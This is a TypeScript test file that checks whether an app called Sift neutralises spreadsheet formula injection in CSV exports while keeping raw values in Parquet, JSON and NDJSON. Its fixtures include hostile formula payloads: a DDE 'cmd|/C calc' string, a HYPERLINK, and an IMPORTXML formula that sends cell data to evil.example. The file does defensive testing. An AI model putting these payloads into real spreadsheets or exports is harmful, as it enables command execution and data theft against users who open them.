/**
 * Spreadsheet formula injection: CSV that Sift writes for people neutralises text cells a spreadsheet would run as
 * formulas (OWASP), while Parquet and JSON keep the raw values — over real HTTP with real tokens, files read back.
 */
import fs from 'node:fs';
import path from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Host } from '../../electron/host/host';
import { type RunningServer, startServer } from '../../electron/server';
import type { InputOf, MethodName, OutputOf } from '../../shared/contract';
import type { JobSummary } from '../../shared/jobs';
import { makeLabelingWorkspace } from './labelingFixture';
import { call, postCall, postJson, tempDir, unwrap } from './support';

const HOSTILE = [
  '=HYPERLINK("http://evil.example","x")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1',
  '\r=1',
  'plain text',
  '',
  'a=b',
];
const SAFE = [
  '\'=HYPERLINK("http://evil.example","x")',
  "'+1+cmd|/C calc!A0",
  "'-2+3",
  "'@SUM(1+1)",
  "'\t=1",
  "'\r=1",
  'plain text',
  '',
  'a=b',
];

let host: Host;
let server: RunningServer;

/** One call over browser-mode HTTP, typed by the contract and unwrapped. */
async function post<M extends MethodName>(
  method: M,
  body: InputOf<M>,
  token: string | null = server.token,
): Promise<OutputOf<M>> {
  return unwrap(await postCall(server, method, body, token));
}

async function download(file: string): Promise<string> {
  const response = await fetch(
    `http://127.0.0.1:${server.port}/api/download?path=${encodeURIComponent(file)}&token=${server.token}`,
  );
  expect(response.status).toBe(200);
  const local = path.join(tempDir('sift-download-'), path.basename(file));
  fs.writeFileSync(local, Buffer.from(await response.arrayBuffer()));
  return local;
}

/** Rows of a file as DuckDB reads it (CSV as text, no guessing), in file order. */
async function readBack(sql: string): Promise<unknown[][]> {
  const instance = await DuckDBInstance.create(':memory:');
  const conn = await instance.connect();
  try {
    return (await conn.runAndReadAll(sql)).getRowsJson();
  } finally {
    conn.closeSync();
    instance.closeSync();
  }
}

const quote = (file: string) => `'${file.replace(/'/g, "''")}'`;

beforeAll(async () => {
  host = await makeLabelingWorkspace(path.join(tempDir('sift-formula-'), 'ws'));
  const staticDir = tempDir('sift-static-');
  fs.writeFileSync(path.join(staticDir, 'index.html'), '<!doctype html><title>Sift</title>');
  server = await startServer({ host, staticDir });
}, 60_000);
afterAll(async () => {
  await server?.close();
  await host?.close();
});

describe('CSV written for people', () => {
  it('query results: formula-like text cells get a leading quote, numbers stay numbers, Parquet and JSON keep the raw value', async () => {
    const values = HOSTILE.map((text, i) => `(${i}, ${quote(text)}, ${-5 - i})`);
    const result = await post('query.run', {
      queryId: 'formulas',
      sql: `SELECT * FROM (VALUES ${values.join(', ')}) t(n, cell, delta) ORDER BY n`,
      pageSize: 0,
    });
    expect(
      (await post('query.page', { resultId: result.resultId!, offset: 0, limit: 20 })).rows.map((row) => row[1]),
    ).toEqual(HOSTILE);
    const exported = async (format: 'csv' | 'parquet' | 'json') => {
      const { jobId } = await post('query.export', { resultId: result.resultId!, format });
      const job = (await host.jobs.wait(jobId)) as JobSummary & { result: { path: string } };
      expect(job.status).toBe('done');
      return download(job.result.path);
    };
    const csv = await readBack(
      `SELECT cell, delta FROM read_csv(${quote(await exported('csv'))}, all_varchar = true, header = true) ORDER BY n::INT`,
    );
    expect(csv.map((row) => row[0] ?? '')).toEqual(SAFE);
    expect(csv.map((row) => row[1])).toEqual(HOSTILE.map((_, i) => String(-5 - i))); // a negative number is not a formula
    expect(
      (await readBack(`SELECT cell FROM read_parquet(${quote(await exported('parquet'))}) ORDER BY n`)).map(
        (row) => row[0],
      ),
    ).toEqual(HOSTILE);
    const json = JSON.parse(fs.readFileSync(await exported('json'), 'utf8')) as { cell: string }[];
    expect(json.map((row) => row.cell)).toEqual(HOSTILE);
  });

  it("label exports: an annotator's note that looks like a formula is neutralised in CSV, raw in the NDJSON trail", async () => {
    const session = await call(host, 'sessions.create', {
      name: 'notes',
      pool: 'SELECT content_id FROM content',
      model: 'text-distil',
      version: 't1',
      strategy: 'random',
      batchSize: 3,
    });
    const { token } = await post('annotators.createToken', { name: 'mallory' });
    const note = '=IMPORTXML("http://evil.example/?"&A1,"//x")';
    // No annotator in the body: an annotator's token names her (the server fills it in), so this body is raw.
    unwrap(
      await postJson(
        server,
        'labels.record',
        {
          sessionId: session.id,
          action: { kind: 'label', contentId: 'c03', labels: [{ category: 'spam', value: 0 }], note },
        },
        token,
      ),
    );
    const csv = await post('labels.export', { sessionId: session.id, format: 'csv' });
    const rows = await readBack(
      `SELECT annotator_id, note FROM read_csv(${quote(await download(csv.path))}, all_varchar = true, header = true) WHERE note IS NOT NULL`,
    );
    expect(rows).toEqual([['mallory', `'${note}`]]);
    const trail = await post('labels.export', { sessionId: session.id, format: 'ndjson' });
    const events = fs
      .readFileSync(trail.path, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { note: string | null });
    expect(events.filter((event) => event.note !== null).map((event) => event.note)).toEqual([note]);
  });
});
